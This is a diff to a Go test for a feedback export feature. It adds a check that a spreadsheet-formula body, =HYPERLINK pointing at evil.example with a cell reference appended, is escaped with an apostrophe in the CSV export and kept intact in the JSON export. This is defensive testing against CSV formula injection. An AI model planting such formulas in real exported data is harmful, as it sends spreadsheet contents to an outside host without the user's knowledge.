@@ -70,6 +70,7 @@ func TestExportWritesSpreadsheetReadyFiles(t *testing.T) {
 		tricky := "Zoë said: \"the form\", then, on a new line:\nit's =SUM(A1) broken; ümlaut ✓"
 		fb := s.LeaveFeedback(t, owner, loop.Iteration.ID, vars{"kind": "BUG", "body": tricky, "rating": 2, "minutesSavedPerDay": 15})
 		plain := s.LeaveFeedback(t, owner, loop.Iteration.ID, nil)
+		formula := s.LeaveFeedback(t, owner, loop.Iteration.ID, vars{"body": "=HYPERLINK(\"http://evil.example/?\"&A1)"})
 		s.Do(t, owner, `mutation($id: ID!) { vote(feedbackID: $id) { id } }`, vars{"id": fb}).RequireOK(t)
 		next := s.NewPublishedIteration(t, owner, loop.Prototype.ID)
 		s.Do(t, owner, `mutation($ids: [ID!]!, $it: ID!) { markAddressed(feedbackIDs: $ids, iterationID: $it) { id } }`,
@@ -82,13 +83,14 @@ func TestExportWritesSpreadsheetReadyFiles(t *testing.T) {
 			if !slices.Equal(records[0], want) {
 				t.Fatalf("header %v, want %v", records[0], want)
 			}
-			if len(records) != 3 {
-				t.Fatalf("%d records, want a header and 2 rows", len(records))
+			if len(records) != 4 {
+				t.Fatalf("%d records, want a header and 3 rows", len(records))
 			}
-			row := records[1]
-			if row[0] != fb {
-				row = records[2]
+			byID := map[string][]string{}
+			for _, r := range records[1:] {
+				byID[r[0]] = r
 			}
+			row := byID[fb]
 			got := []string{row[0], row[1], row[2], row[3], row[4], row[5], row[6], row[7], row[8], row[9], row[11]}
 			wantRow := []string{fb, loop.Prototype.Slug, "1", "BUG", "ADDRESSED", "2", "15", loop.Owner.Name, "1", "2", tricky}
 			if !slices.Equal(got, wantRow) {
@@ -96,6 +98,9 @@ func TestExportWritesSpreadsheetReadyFiles(t *testing.T) {
 			}
 			if _, err := time.Parse(time.RFC3339, row[10]); err != nil {
 				t.Errorf("created_at %q: %v", row[10], err)
+			}
+			if got := byID[formula][11]; got != `'=HYPERLINK("http://evil.example/?"&A1)` {
+				t.Errorf("a body like a formula is %q, want it behind an apostrophe", got)
 			}
 		})
 		t.Run("starts with a BOM only when asked", func(t *testing.T) {
@@ -134,12 +139,15 @@ func TestExportWritesSpreadsheetReadyFiles(t *testing.T) {
 				if row.ID == fb && (row.Body != tricky || row.Rating == nil || *row.Rating != 2 || row.AddressedIn == nil || *row.AddressedIn != 2) {
 					t.Errorf("row %+v", row)
 				}
+				if row.ID == formula && !strings.HasPrefix(row.Body, "=") {
+					t.Errorf("JSON changed a body like a formula to %q", row.Body)
+				}
 				if row.ID == plain && (row.Rating != nil || row.AddressedIn != nil) {
 					t.Errorf("row %+v: want null rating and addressed_in", row)
 				}
 			}
-			if slices.Sort(ids); !slices.Equal(ids, slices.Sorted(slices.Values([]string{fb, plain}))) {
-				t.Errorf("ids %v, want %s and %s", ids, fb, plain)
+			if slices.Sort(ids); !slices.Equal(ids, slices.Sorted(slices.Values([]string{fb, plain, formula}))) {
+				t.Errorf("ids %v, want %s, %s and %s", ids, fb, plain, formula)
 			}
 		})
 	})
